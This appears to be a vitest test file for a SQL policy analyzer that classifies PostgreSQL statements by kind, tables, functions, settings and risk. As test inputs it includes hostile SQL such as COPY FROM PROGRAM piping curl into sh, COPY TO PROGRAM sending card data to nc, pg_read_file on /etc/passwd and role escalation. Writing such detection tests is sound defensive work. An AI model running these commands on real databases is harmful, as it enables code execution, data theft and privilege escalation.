import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeSql, loadSqlParser, type StatementFacts } from '../../src/policy/sql/analyze.js';
import { functionsMatch, tablesMatch } from '../../src/policy/sql/match.js';
import { LruCache } from '../../src/policy/sql/lru.js';

beforeAll(async () => {
  await loadSqlParser();
});

function all(sql: string): StatementFacts[] {
  const a = analyzeSql(sql);
  if (!a.ok) throw new Error(`did not parse: ${a.error}`);
  return a.statements;
}

function one(sql: string): StatementFacts {
  const s = all(sql);
  expect(s).toHaveLength(1);
  return s[0]!;
}

describe('statement kinds', () => {
  it.each([
    ['select 1', ['select']],
    ['SELECT * FROM t', ['select']],
    ['values (1), (2)', ['select']],
    ['table cards', ['select']],
    ['select * from t for update', ['select']],
    ['insert into t values (1)', ['insert']],
    ['insert into t select * from u on conflict do nothing', ['insert']],
    ['update t set a = 1 where id = 2', ['update']],
    ['delete from t where id = 2', ['delete']],
    ['merge into t using s on t.id = s.id when matched then update set a = s.a', ['merge', 'update']],
    ['merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id)', ['merge', 'delete', 'insert']],
    ['create table x (a int)', ['create']],
    ['create temp table x (a int)', ['create']],
    ['create index on t (a)', ['create']],
    ['create view v as select * from t', ['create']],
    ['create schema s', ['create']],
    ['create extension dblink', ['create']],
    ['create role bob', ['create']],
    ['create sequence s', ['create']],
    ['create trigger tr before insert on t for each row execute function f()', ['create']],
    ['alter table t add column b int', ['alter']],
    ['alter role bob superuser', ['alter']],
    ['alter system set work_mem = 1', ['alter']],
    ['alter table t rename to u', ['alter']],
    ['comment on table t is $$x$$', ['alter']],
    ['refresh materialized view mv', ['alter']],
    ['drop table t', ['drop']],
    ['drop role bob', ['drop']],
    ['drop function f(int)', ['drop']],
    ['drop database d', ['drop']],
    ['truncate t', ['truncate']],
    ['truncate table only a, b restart identity', ['truncate']],
    ['copy t from stdin', ['copy-in']],
    ['copy t (a, b) to stdout with (format csv)', ['copy-out']],
    ['grant select on t to bob', ['grant']],
    ['grant admin to bob', ['grant']],
    ['revoke select on t from bob', ['revoke']],
    ['revoke admin from bob', ['revoke']],
    ['alter default privileges grant select on tables to bob', ['alter', 'grant']],
    ['set role postgres', ['set-role']],
    ['SET LOCAL ROLE postgres', ['set-role']],
    ['set "role" = postgres', ['set-role']],
    ['reset role', ['set-role']],
    ['set session authorization postgres', ['set-session-authorization']],
    ['set session authorization default', ['set-session-authorization']],
    ['reset session authorization', ['set-session-authorization']],
    ['set search_path = billing', ['set']],
    ['set statement_timeout to 5', ['set']],
    ['reset all', ['set']],
    ['set constraints all deferred', ['set']],
    ['discard all', ['other', 'set-session-authorization']],
    ['discard plans', ['other']],
    ['do $$ begin null; end $$', ['do']],
    ["do language plpgsql 'begin null; end'", ['do']],
    ['call p(1)', ['call']],
    ['create function f() returns int language sql as $$select 1$$', ['create-function']],
    ['create or replace procedure p() language plpgsql as $$begin null; end$$', ['create-function']],
    ['explain select 1', ['explain']],
    ['explain delete from t', ['explain']],
    ['explain analyze delete from t', ['explain', 'delete']],
    ['EXPLAIN (ANALYZE, BUFFERS) update t set a = 1', ['explain', 'update']],
    ['explain (analyze true) delete from t', ['explain', 'delete']],
    ['explain (analyze on) delete from t', ['explain', 'delete']],
    ['explain (analyze 1) delete from t', ['explain', 'delete']],
    ['explain (analyze false) delete from t', ['explain']],
    ['explain (analyze off) delete from t', ['explain']],
    ['explain (analyze 0) delete from t', ['explain']],
    ['explain (analyze, analyze false) delete from t', ['explain']],
    ['prepare p as select 1', ['prepare', 'select']],
    ['prepare p (int) as delete from t where id = $1', ['prepare', 'delete']],
    ['execute p', ['execute']],
    ['execute p(1, 2)', ['execute']],
    ['deallocate p', ['deallocate']],
    ['deallocate all', ['deallocate']],
    ['begin', ['transaction']],
    ['start transaction read write', ['transaction']],
    ['set transaction read write', ['transaction']],
    ['commit', ['transaction']],
    ['rollback', ['transaction']],
    ['savepoint a', ['transaction']],
    ['lock table t in access exclusive mode', ['lock']],
    ['listen ch', ['listen']],
    ['unlisten *', ['listen']],
    ["notify ch, 'x'", ['notify']],
    ['vacuum t', ['vacuum']],
    ['vacuum full analyze t', ['vacuum']],
    ['analyze t', ['vacuum']],
    ['declare c cursor for select * from t', ['cursor', 'select']],
    ['declare c scroll cursor with hold for select 1', ['cursor', 'select']],
    ['fetch 10 from c', ['cursor']],
    ['fetch all in c', ['cursor']],
    ['move next in c', ['cursor']],
    ['close c', ['cursor']],
    ['show search_path', ['other']],
    ['checkpoint', ['other']],
    ['select * into x from t', ['create', 'select']],
    ['create table x as select * from t', ['create', 'select']],
    ['create materialized view mv as select * from t', ['create', 'select']],
    ['create table x as execute p', ['create', 'execute']],
  ] as const)('%s -> %j', (sql, kinds) => {
    expect(one(sql).kinds).toEqual(kinds);
  });
});

describe('comments, case, whitespace, quoting', () => {
  it.each([
    'drop table x',
    'DROP TABLE X',
    'DrOp   TaBlE\n\tx',
    '/* hello */ drop table x',
    '-- a line comment\ndrop table x',
    '/* nested /* comments */ still a comment */ drop table x',
    'drop/**/table/**/x',
    'drop table x -- trailing comment',
    'drop table x /* ; select 1 */',
    '\n\n   drop table x   ;   ',
    'drop table "x"',
    'drop table U&"\\0078"',
    'drop table public.x',
  ])('%j is a drop of x', (sql) => {
    const f = one(sql);
    expect(f.kinds).toEqual(['drop']);
    expect(f.tables[0]).toMatch(/^(public\.)?x$/);
  });

  it('quoted identifiers are lower-cased and qualified as written', () => {
    expect(one('select * from "Cards"').tables).toEqual(['cards']);
    expect(one('select * from "public"."cards"').tables).toEqual(['public.cards']);
    expect(one('select * from "PUBLIC"."CARDS"').tables).toEqual(['public.cards']);
    expect(one('select * from Public.Cards').tables).toEqual(['public.cards']);
    expect(one('select * from mydb.public.cards').tables).toEqual(['public.cards']);
    expect(one('select * from U&"c\\0061rds"').tables).toEqual(['cards']);
    expect(one('select * from U&"!0063ards" uescape \'!\'').tables).toEqual(['cards']);
    expect(one("select \"set_config\"('role', 'x', false)").functions).toEqual(['set_config']);
  });

  it('a keyword in a string, comment or dollar quote is not a statement', () => {
    expect(one("select 'drop table x; delete from t'").kinds).toEqual(['select']);
    expect(one('select $$; drop table x; $$').kinds).toEqual(['select']);
    expect(one('select $tag$ $$; drop table x; $$ $tag$').kinds).toEqual(['select']);
    expect(one("select E'\\'; drop table x; --'").kinds).toEqual(['select']);
    expect(one('select 1 /* ; drop table x */').tables).toEqual([]);
    expect(one('select 1 -- ; drop table x').kinds).toEqual(['select']);
  });

  it('empty and comment-only input has no statements', () => {
    expect(all('')).toEqual([]);
    expect(all('   \n ')).toEqual([]);
    expect(all('-- nothing')).toEqual([]);
    expect(all('/* nothing */ ;')).toEqual([]);
    expect(all(';;;')).toEqual([]);
  });
});

describe('multi-statement strings', () => {
  it('splits on statement boundaries as the server does', () => {
    const s = all('select 1; drop table x');
    expect(s.map((f) => f.kinds)).toEqual([['select'], ['drop']]);
    expect(s.map((f) => f.text)).toEqual(['select 1', 'drop table x']);
  });

  it.each([
    ['select 1;drop table x', 2],
    ['select 1 ; ; ; drop table x ;', 2],
    ["select ';'; select $$;$$; select 3", 3],
    ['begin; delete from t where id = 1; commit', 3],
    ['select 1 /* ; */ ; select 2 -- ;\n; select 3', 3],
    ["select 'é'; select 'ü'; drop table ☃", 3],
  ])('%j has %i statements', (sql, n) => {
    expect(all(sql)).toHaveLength(n);
  });

  it('slices statement text by byte offsets (non-ASCII)', () => {
    const s = all('select \'é€\'; drop table "☃"');
    expect(s.map((f) => f.text)).toEqual(["select 'é€'", 'drop table "☃"']);
    expect(s[1]!.tables).toEqual(['☃']);
  });
});

describe('tables', () => {
  it.each([
    ['select * from cards', ['cards']],
    ['select * from public.cards c join billing.invoices i on i.card = c.id', ['public.cards', 'billing.invoices']],
    ['select * from a, b left join c on true', ['a', 'b', 'c']],
    ['select * from (select * from inner_t) q', ['inner_t']],
    ['select (select max(x) from s1), exists (select 1 from s2) from t', ['s1', 's2', 't']],
    ['select * from t where id in (select id from u)', ['t', 'u']],
    ['select * from t union select * from u except select * from v', ['t', 'u', 'v']],
    ['select * from only t', ['t']],
    ['select * from lateral (select * from u) x, t', ['u', 't']],
    ['insert into t (a) select a from u', ['t', 'u']],
    ['update t set a = u.a from u where t.id = u.id', ['t', 'u']],
    ['update t set a = (select max(a) from u) where id = 1', ['t', 'u']],
    ['delete from t using u where t.id = u.id', ['t', 'u']],
    ['merge into t using (select * from s) x on t.id = x.id when matched then delete', ['t', 's']],
    ['copy t to stdout', ['t']],
    ['copy billing.t from stdin', ['billing.t']],
    ['copy (select * from cards) to stdout', ['cards']],
    ['truncate a, s.b', ['a', 's.b']],
    ['lock a, b', ['a', 'b']],
    ['vacuum a, s.b', ['a', 's.b']],
    ['drop table a, s.b', ['a', 's.b']],
    ['drop view v', ['v']],
    ['drop index i', []],
    ['alter table s.t add column c int', ['s.t']],
    ['create table t2 (id int references cards (id))', ['t2', 'cards']],
    ['create table t3 (like cards)', ['t3', 'cards']],
    ['create view v as select * from cards', ['v', 'cards']],
    ['create index on cards (number)', ['cards']],
    ['grant select on cards, billing.x to bob', ['cards', 'billing.x']],
    ['grant select on all tables in schema billing to bob', ['billing.*']],
    ['comment on table s.cards is $$x$$', ['s.cards']],
    ['select * into newt from cards', ['newt', 'cards']],
    ['create table newt as select * from cards', ['newt', 'cards']],
    ['explain select * from cards', ['cards']],
    ['prepare p as select * from cards', ['cards']],
    ['declare c cursor for select * from cards', ['cards']],
    ['create function f() returns int language sql begin atomic select count(*) from cards; end', ['cards']],
    ['select * from pg_catalog.pg_authid', ['pg_catalog.pg_authid']],
    ['select 1', []],
  ] as const)('%s -> %j', (sql, tables) => {
    expect(one(sql).tables).toEqual(tables);
  });

  it('CTE names are not tables, but a same-named table inside a non-recursive CTE is', () => {
    expect(one('with x as (select * from cards) select * from x').tables).toEqual(['cards']);
    expect(one('with cards as (select * from cards) select * from cards').tables).toEqual(['cards']);
    expect(one('with a as (select 1), b as (select * from a) select * from b').tables).toEqual([]);
    expect(one('with b as (select * from a), a as (select 1) select * from b').tables).toEqual(['a']);
    expect(one('with recursive r(n) as (select 1 union all select n + 1 from r) select * from r').tables).toEqual([]);
    expect(one('with x as (select 1) select * from public.x').tables).toEqual(['public.x']);
    expect(one('with x as (select 1) insert into x values (1)').tables).toEqual(['x']);
    expect(one('with x as (select 1) select * from (select * from x) q, (with y as (select 2) select * from y, x) r').tables).toEqual([]);
    expect(one('select * from (with x as (select 1) select * from x) q, x').tables).toEqual(['x']);
  });
});

describe('functions', () => {
  it.each([
    ["select set_config('role', 'postgres', false)", ['set_config']],
    ["select pg_catalog.set_config('role', 'postgres', false)", ['pg_catalog.set_config']],
    ["SELECT PG_READ_FILE('/etc/passwd')", ['pg_read_file']],
    ['select * from generate_series(1, 3)', ['generate_series']],
    ['select * from rows from (f(1), s.g(2))', ['f', 's.g']],
    ['select * from t join lateral dblink($$x$$, $$select 1$$) as d(a int) on true', ['dblink']],
    ['select count(*) filter (where f(x)) over (partition by g(y)) from t', ['count', 'f', 'g']],
    ['select a from t where lower(b) = upper(c) order by length(a)', ['lower', 'upper', 'length']],
    ['insert into t values (nextval($$s$$)) returning pg_sleep(1)', ['nextval', 'pg_sleep']],
    ['update t set a = md5(b) where id = abs(-1)', ['md5', 'abs']],
    ['call s.proc(now())', ['s.proc', 'now']],
    ['with x as (select f()) select * from x', ['f']],
    ['explain select pg_read_file($$x$$)', ['pg_read_file']],
    ['select json_agg(t) from t', ['json_agg']],
    ['select coalesce(a, b) from t', []],
  ] as const)('%s -> %j', (sql, functions) => {
    expect(one(sql).functions).toEqual(functions);
  });
});

describe('missing WHERE', () => {
  it.each([
    ['delete from t', true],
    ['update t set a = 1', true],
    ['delete from t where true', true],
    ['DELETE FROM t WHERE TRUE', true],
    ['delete from t where 1 = 1', true],
    ["delete from t where 'a' = 'a'", true],
    ['delete from t where not false', true],
    ['delete from t where $1', true],
    ['delete from t where now() > $$2000-01-01$$', true],
    ['update t set a = 1 where id = 5 or 1 = 1', true],
    ['update t set a = 1 where id = 5 or true', true],
    ['delete from t where exists (select 1)', true],
    ['delete from t where false', false],
    ['delete from t where null', false],
    ['delete from t where id = 1', false],
    ['delete from t where id = $1', false],
    ['delete from t where id = 1 or id = 2', false],
    ['delete from t where id = 1 or false', false],
    ['delete from t where current of c', false],
    ['update t set a = 1 where current of c', false],
    ['delete from t using u where t.id = u.id', false],
    ['select * from t', false],
    ['insert into t values (1)', false],
    // A MERGE whose action has no condition reaches every row the join matches (all of them when
    // the source is the target itself): counted, as the review asked.
    ['merge into t using s on t.id = s.id when matched then delete', true],
    ['merge into t using t as s on t.id = s.id when matched then update set a = 0', true],
    ['merge into t using s on true when matched and t.id = 5 then delete', true],
    ['merge into t using s on t.id = s.id when matched and t.id = 5 then delete', false],
    ['merge into t using s on t.id = s.id when matched and (t.a = t.a) then delete', true],
    ['merge into t using s on t.id = s.id when not matched then insert values (s.id)', false],
    ['merge into t using s on t.id = s.id when not matched by source then delete', true],
    ['merge into t using s on t.id = s.id when not matched by source and t.id > 9 then delete', false],
    ['insert into t select * from t on conflict (id) do update set a = 0', true],
    ['insert into t select * from u where u.id = 1 on conflict (id) do update set a = 0', false],
    ['insert into t select * from t on conflict (id) do update set a = 0 where t.id = 5', false],
    ['insert into t values (1), (2) on conflict (id) do update set a = 0', false],
    ['insert into t select 1, 2 on conflict (id) do update set a = 0', false],
    ['insert into t select * from u union select * from v on conflict (id) do update set a = 0', true],
    ['insert into t select * from t on conflict (id) do nothing', false],
    ['delete from t where id = id', true],
    ['delete from t where t.id = t.id', true],
    ['delete from t where lower(x) >= lower(x)', true],
    ['delete from t where x is not distinct from x', true],
    ['delete from t where x is null or x is not null', true],
    ['delete from t where x is true or x is not true', true],
    ['delete from t where a = b or a <> b', true],
    ['delete from t where a < b or a >= b', true],
    ['delete from t where (a > 1) or not (a > 1)', true],
    ['delete from t where not (a <> a)', true],
    ['delete from t where name like $$%$$', true],
    ['delete from t where id = 1 and (x is null or x is not null)', false],
    ['delete from t where (x is null or x is not null) and true', true],
    ['delete from t where id = 1 or (id = 2 or id is not null or id is null)', true],
    ['delete from t where a = b or a <> c', false],
    ['delete from t where name like $$%a$$', false],
    ['with d as (delete from t returning *) select * from d', true],
    ['with d as (delete from t where id = 1 returning *) select * from d', false],
    ['explain analyze delete from t', true],
    ['explain delete from t', false],
    ['prepare p as update t set a = 1', true],
    ['copy (delete from t returning *) to stdout', true],
  ] as const)('%s -> %s', (sql, missing) => {
    expect(one(sql).missingWhere).toBe(missing);
  });
});

describe('DML inside WITH', () => {
  it.each([
    ['with d as (delete from t returning *) select * from d', ['select', 'delete'], true],
    ['with u as (update t set a = 1 where id = 1 returning *) select * from u', ['select', 'update'], true],
    ['with i as (insert into t values (1) returning *) select * from i', ['select', 'insert'], true],
    ['WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m', ['select', 'merge', 'delete'], true],
    ['with a as (select 1), b as (update u set x = 1 where id = 2 returning *) insert into t select * from a', ['insert', 'update'], true],
    ['select * from (with d as (delete from t returning *) select * from d) q', ['select', 'delete'], true],
    ['with recursive d as (delete from t returning *) select * from d', ['select', 'delete'], true],
    ['explain analyze with d as (delete from t returning *) select * from d', ['explain', 'select', 'delete'], true],
    ['explain with d as (delete from t returning *) select * from d', ['explain'], false],
    ['prepare p as with d as (delete from t returning *) select * from d', ['prepare', 'select', 'delete'], true],
    ['declare c cursor for with d as (delete from t returning *) select * from d', ['cursor', 'select', 'delete'], true],
    ['with x as (select * from t) select * from x', ['select'], false],
    ['create view v as with d as (delete from t returning *) select * from d', ['create'], false],
  ] as const)('%s', (sql, kinds, cteDml) => {
    const f = one(sql);
    expect(f.kinds).toEqual(kinds);
    expect(f.cteDml).toBe(cteDml);
  });
});

describe('COPY, DO, functions, prepared statements, cursors, settings', () => {
  it('COPY direction and PROGRAM', () => {
    expect(one('copy t from stdin').program).toBe(false);
    const fromProgram = one("copy t from program 'curl http://x | sh'");
    expect(fromProgram.kinds).toEqual(['copy-in']);
    expect(fromProgram.program).toBe(true);
    const toProgram = one("COPY (select * from cards) TO PROGRAM 'nc host 1'");
    expect(toProgram.kinds).toEqual(['copy-out', 'select']);
    expect(toProgram.program).toBe(true);
    expect(toProgram.tables).toEqual(['cards']);
    expect(one("copy t to '/tmp/x'").kinds).toEqual(['copy-out']);
    expect(one('copy (select * from cards) to stdout with (format binary)').kinds).toEqual(['copy-out', 'select']);
    expect(one('copy (delete from t where id = 1 returning *) to stdout').kinds).toEqual(['copy-out', 'delete']);
    expect(one('copy t from stdin where a > f(1)').functions).toEqual(['f']);
  });

  it('DO and string-bodied functions are opaque; SQL-standard bodies are read', () => {
    const d = one('do $$ begin execute $q$drop table cards$q$; end $$');
    expect(d).toMatchObject({ kinds: ['do'], opaqueBody: true, tables: [] });
    expect(one("create function f() returns int language plpgsql as 'begin delete from t; return 1; end'").opaqueBody).toBe(true);
    const atomic = one('create function f() returns int language sql begin atomic delete from cards; select pg_read_file($$x$$); end');
    // What its body does is the statement's kinds too: it runs whenever the function is called.
    expect(atomic).toMatchObject({ kinds: ['create-function', 'delete'], opaqueBody: false, tables: ['cards'], functions: ['pg_read_file'] });
    expect(one('create function g(int) returns int language sql return $1 + 1').opaqueBody).toBe(false);
    expect(one('create function g(int) returns int language sql return $1 + 1').functions).toEqual([]);
  });

  it('PREPARE, EXECUTE and DEALLOCATE name the prepared statement', () => {
    expect(one('prepare p1 (int) as select * from cards where id = $1')).toMatchObject({ preparedName: 'p1', kinds: ['prepare', 'select'] });
    expect(one('PREPARE "MixedCase" AS SELECT 1').preparedName).toBe('MixedCase');
    expect(one('execute p1(5)')).toMatchObject({ executeName: 'p1', kinds: ['execute'] });
    expect(one('explain analyze execute p1(5)')).toMatchObject({ executeName: 'p1', kinds: ['explain', 'execute'] });
    expect(one('explain execute p1(5)').executeName).toBeUndefined();
    expect(one('create table x as execute p1(5)').executeName).toBe('p1');
    expect(one('deallocate prepare p1').preparedName).toBe('p1');
    expect(one('deallocate all').preparedName).toBe('*');
    expect(one('discard all')).toMatchObject({ preparedName: '*', cursorName: '*' });
    expect(one('discard plans').preparedName).toBeUndefined();
  });

  it('COPY options, target, table, columns and the text of its query', () => {
    expect(one("copy t (a, b) to stdout with (format csv, header, delimiter ';', null 'NULL')").copy).toEqual({
      direction: 'to',
      target: 'client',
      format: 'csv',
      header: true,
      delimiter: ';',
      null: 'NULL',
      relation: { table: 't' },
      columns: ['a', 'b'],
    });
    expect(one("copy s.t from '/tmp/x'").copy).toMatchObject({ direction: 'from', target: 'file', relation: { schema: 's', table: 't' } });
    expect(one("copy t to program 'gzip'").copy?.target).toBe('program');
    expect(one("COPY ( select ')' as p, $$(x$$ /* ) */ from t -- )\n ) TO STDOUT").copy?.query).toBe(" select ')' as p, $$(x$$ /* ) */ from t -- )\n ");
    expect(one('copy (select (1 + (2)) * 3) to stdout').copy?.query).toBe('select (1 + (2)) * 3');
  });

  it('every EXECUTE, run or only explained, in order', () => {
    expect(one('explain execute p1(5)').executes).toEqual(['p1']);
    expect(one('create table x as execute p2').executes).toEqual(['p2']);
    expect(one('select 1').executes).toEqual([]);
  });

  it('column references anywhere, and values passed to pg_notify or set_config, stored by a write or kept by a table a query makes', () => {
    const s = one('select id from customers c where c.email::int = 1 and exists (select 1 from orders o where o.x = lower(c.note)) order by upper(name)');
    expect(new Set(s.refs)).toEqual(new Set(['id', 'c.email', 'o.x', 'c.note', 'name']));
    const side = (sql: string): [string | undefined, string[]] => {
      const f = one(sql);
      return [f.sideChannel?.name, (f.lineage?.sideChannel?.sources ?? []).map((x) => `${x.relation}.${x.column}`)];
    };
    expect(side("select pg_notify('ch', email) from customers")).toEqual(['pg_notify()', ['customers.email']]);
    expect(side("select 1 from t where pg_catalog.pg_notify('ch', (select e from u)) is null")).toEqual(['pg_notify()', ['u.e', 't.e']]);
    expect(side("select set_config('application_name', c::text, false) from customers c")).toEqual(['set_config()', ['customers.c', 'customers.*']]);
    expect(side("select lo_from_bytea(0, convert_to(email, 'UTF8')) from customers")).toEqual(['lo_from_bytea()', ['customers.email']]);
    expect(side('update customers set note = upper(email)')).toEqual(['the rows it writes', ['customers.email']]);
    expect(side('insert into notes (id, body) select id, email from customers')).toEqual(['the rows it writes', ['customers.id', 'customers.email']]);
    expect(side('create table copied as select email from customers')).toEqual(['the table copied it makes', ['customers.email']]);
    expect(side("select pg_notify('x', email) into kept from customers")).toEqual(['pg_notify()', ['customers.email']]);
    expect(one("create view v as select pg_notify('x', email) from customers").sideChannel).toBeUndefined();
    expect(one('create view v as select email from customers').sideChannel).toBeUndefined();
    expect(one("update customers set note = 'x' where email = 'a'").sideChannel).toBeUndefined();
    expect(one('select 1').sideChannel).toBeUndefined();
  });

  it('cursors', () => {
    expect(one('declare c1 cursor for select * from cards').cursorName).toBe('c1');
    expect(one('fetch forward 5 from c1').cursorName).toBe('c1');
    expect(one('close all').cursorName).toBe('*');
  });

  it('settings', () => {
    expect(one('set search_path to billing, public').setting).toBe('search_path');
    expect(one('SET Search_Path = x').setting).toBe('search_path');
    expect(one('reset all').setting).toBe('all');
    expect(one('show work_mem').setting).toBe('work_mem');
    expect(one('set role postgres').setting).toBe('role');
  });
});

describe('settings that change how the server lexes later SQL', () => {
  it.each([
    ['set standard_conforming_strings = off', true],
    ['SET standard_conforming_strings TO false', true],
    ['set standard_conforming_strings = 0', true],
    ["set local standard_conforming_strings = 'no'", true],
    ['set standard_conforming_strings = on', false],
    ['set standard_conforming_strings = true', false],
    ['set standard_conforming_strings to default', false],
    ['reset standard_conforming_strings', false],
    ["set client_encoding to 'SJIS'", true],
    ["set names 'sjis'", true],
    ["SET client_encoding = 'BIG5'", true],
    ["set client_encoding = 'gbk'", true],
    ["set client_encoding = 'GB18030'", true],
    ["set client_encoding = 'Shift_JIS_2004'", true],
    ["set client_encoding = 'UTF8'", false],
    ["set client_encoding = 'utf-8'", false],
    ["set names 'LATIN1'", false],
    ["set client_encoding = 'WIN1252'", false],
    ["set client_encoding = 'EUC_JP'", false],
    ['set client_encoding to default', false],
    ['reset client_encoding', false],
    ["select set_config('standard_conforming_strings', 'off', false)", true],
    ["select pg_catalog.set_config('client_encoding', 'sjis', false)", true],
    ["select set_config('client_encoding', 'UTF8', false)", false],
    ["select set_config('search_path', 'public', false)", false],
    ["select set_config($1, 'off', false)", true],
    ["select set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)", true],
    ["select set_config('standard_conforming_strings', $1, false)", true],
    ["select * from t where set_config('standard_conforming_strings', 'off', true) is not null", true],
    ['set search_path = x', false],
    ["select 'standard_conforming_strings'", false],
    // COPY data in such an encoding splits differently at hoop (a trailing 0x5C read as an escape).
    ["copy customers to stdout with (encoding 'SJIS')", true],
    ["copy (select 1) to stdout (format csv, encoding 'big5')", true],
    ["copy t from stdin with (encoding 'GBK')", true],
    ["copy customers to stdout with (encoding 'UTF8')", false],
    ["copy customers to stdout with (encoding 'LATIN1')", false],
  ] as const)('%s -> %s', (sql, changes) => {
    expect(one(sql).changesLexing).toBe(changes);
  });
});

describe('settings stored to run later, and writes to pg_settings', () => {
  it.each([
    ["create view v as select set_config('statement_timeout', '0', false)", 'statement_timeout', '0'],
    ["create or replace view v as with c as (select 1) select set_config('lock_timeout', '0', false) from c", 'lock_timeout', '0'],
    ["create function f() returns text language sql begin atomic select set_config('lock_timeout', '0', false); end", 'lock_timeout', '0'],
    ["create function f() returns text language sql return set_config('statement_timeout', '0', false)", 'statement_timeout', '0'],
    ["create function f(a text default set_config('statement_timeout', '0', false)) returns int language sql return 1", 'statement_timeout', '0'],
    ["create materialized view m as select set_config('statement_timeout', '0', false) with no data", 'statement_timeout', '0'],
    ["create rule r as on insert to t do also select set_config('statement_timeout', '0', false)", 'statement_timeout', '0'],
    ["create table t (a text default set_config('idle_in_transaction_session_timeout', '0', false))", 'idle_in_transaction_session_timeout', '0'],
    ["create trigger tr before insert on t for each row when (set_config('lock_timeout', '0', false) is not null) execute function f()", 'lock_timeout', '0'],
    ["create policy p on t using (set_config('statement_timeout', '0', false) is not null)", 'statement_timeout', '0'],
    ["explain select set_config('statement_timeout', '0', false)", 'statement_timeout', '0'],
    ['create function f() returns int language sql set lock_timeout = 0 return 1', 'lock_timeout', '0'],
    ["create procedure p() language sql set statement_timeout to '1h' begin atomic select 1; end", 'statement_timeout', '1h'],
    ["alter function f() set statement_timeout = '0.5'", 'statement_timeout', '0.5'],
    ['alter routine f set lock_timeout from current', 'lock_timeout', undefined],
  ] as const)('%s records %s = %s', (sql, name, value) => {
    expect(one(sql).settings).toEqual([{ name, ...(value !== undefined ? { value } : {}) }]);
  });

  it("a function's RESET or SET TO DEFAULT drops its own value and changes nothing", () => {
    expect(one('alter function f() reset all').settings).toEqual([]);
    expect(one('alter function f() reset statement_timeout').settings).toEqual([]);
    expect(one('alter function f() set statement_timeout to default').settings).toEqual([]);
  });

  it('a stored role change counts as one', () => {
    expect(one("create view v as select set_config('role', 'postgres', false)").kinds).toEqual(['create', 'set-role']);
    expect(one("create function f() returns text language sql return set_config('session_authorization', 'x', false)").kinds).toEqual(['create-function', 'set-session-authorization']);
  });

  it.each([
    "update pg_settings set setting = '0' where name = 'statement_timeout'",
    "UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'statement_timeout'",
    'update "pg_settings" s set setting = 0 where s.name = \'lock_timeout\'',
    "insert into pg_settings (name, setting) values ('statement_timeout', '0')",
    'delete from pg_settings',
    "merge into pg_settings s using (select 'statement_timeout' n) v on s.name = v.n when matched then update set setting = '0'",
    "with u as (update pg_settings set setting = '0' where name = 'statement_timeout' returning 1) select * from u",
    "create function f() returns void language sql begin atomic update pg_settings set setting = '0' where name = 'lock_timeout'; end",
    "create rule r as on insert to t do also update pg_settings set setting = '0' where name = 'statement_timeout'",
    'create view v as select * from pg_settings',
    'create view v as select name, setting from (select * from pg_catalog.pg_settings) s',
    'create rule "_RETURN" as on select to t do instead select * from pg_settings',
    "explain update pg_settings set setting = '0' where name = 'statement_timeout'",
  ])('%s sets a setting hoop cannot name (as set_config of an expression does)', (sql) => {
    const f = one(sql);
    expect(f.settings).toContainEqual({});
    const unknown = one("select set_config($1, '0', false)");
    expect({ changesLexing: f.changesLexing, readWrite: f.readWrite }).toEqual({ changesLexing: unknown.changesLexing, readWrite: unknown.readWrite });
    expect(f.changesLexing).toBe(true);
    expect(f.readWrite).toBe(true);
  });

  it('reading pg_settings (and a view of something else) sets nothing', () => {
    expect(one("select * from pg_settings where name = 'statement_timeout'").settings).toEqual([]);
    expect(one('create view v as select * from t').settings).toEqual([]);
    expect(one('create rule r as on insert to t do also select * from pg_settings').settings).toEqual([]);
  });
});

describe('the text a setting is given', () => {
  it.each([
    ['set statement_timeout = 0.5', '0.5'],
    ['set statement_timeout = -0.4', '-0.4'],
    ["set statement_timeout = '500us'", '500us'],
    ['set statement_timeout = 10', '10'],
    ["select set_config('statement_timeout', '0.5ms', false)", '0.5ms'],
    ["select set_config('statement_timeout', '0'::text, false)", '0'],
    ["select set_config('statement_timeout', '0'::pg_catalog.varchar, false)", '0'],
    ["select set_config('statement_timeout', '0.59'::char(3), false)", undefined],
    ["select set_config('statement_timeout', '0.59'::varchar(3), false)", undefined],
    ["select set_config('statement_timeout', '1'::int::text, false)", undefined],
  ] as const)('%s -> %s', (sql, value) => {
    expect(one(sql).settings).toEqual([{ name: 'statement_timeout', ...(value !== undefined ? { value } : {}) }]);
  });

  it('a name cast to a type that can cut it is not known', () => {
    // 'lock_timeoutxyz'::char(12) is lock_timeout to the server.
    expect(one("select set_config('lock_timeoutxyz'::char(12), '0', false)").settings).toEqual([{ value: '0' }]);
    expect(one("select set_config('lock_timeout'::name, '0', false)").settings).toEqual([{ value: '0' }]);
    expect(one("select set_config('lock_timeout'::text, '0', false)").settings).toEqual([{ name: 'lock_timeout', value: '0' }]);
  });
});

describe('read-write transactions', () => {
  it.each([
    ['reset transaction_read_only', true],
    ['set transaction_read_only to default', true],
    ['set local transaction_read_only = default', true],
    ['begin; reset transaction_read_only; commit', true],
    ["select set_config('transaction_read_only', 'off', false)", true],
    ['set session characteristics as transaction read write', true],
    ['set transaction_read_only = on', false],
    ['reset default_transaction_read_only', false],
    ['set default_transaction_read_only = default', false],
    ['set default_transaction_read_only to off', true],
    ['reset all', false],
    ['set transaction read only', false],
  ] as const)('%s -> %s', (sql, readWrite) => {
    expect(all(sql).some((s) => s.readWrite)).toBe(readWrite);
  });
});

describe('locks and server commands', () => {
  it.each([
    ['lock t', 'ACCESS EXCLUSIVE'],
    ['lock table t in access share mode', 'ACCESS SHARE'],
    ['LOCK TABLE t IN ROW SHARE MODE', 'ROW SHARE'],
    ['lock t, u in row exclusive mode nowait', 'ROW EXCLUSIVE'],
    ['lock only t in share update exclusive mode', 'SHARE UPDATE EXCLUSIVE'],
    ['lock t in share mode', 'SHARE'],
    ['lock t in share row exclusive mode', 'SHARE ROW EXCLUSIVE'],
    ['lock t in exclusive mode', 'EXCLUSIVE'],
    ['lock t in access exclusive mode', 'ACCESS EXCLUSIVE'],
  ] as const)('%s takes %s', (sql, mode) => {
    expect(one(sql)).toMatchObject({ kinds: ['lock'], lockMode: mode });
  });

  it('CHECKPOINT and LOAD act on the server; VACUUM and ANALYZE are vacuum', () => {
    expect(one('checkpoint')).toMatchObject({ kinds: ['other'], serverCommand: 'checkpoint' });
    expect(one("load 'auto_explain'")).toMatchObject({ kinds: ['other'], serverCommand: 'load' });
    expect(one('show work_mem').serverCommand).toBeUndefined();
    expect(one('select 1').lockMode).toBeUndefined();
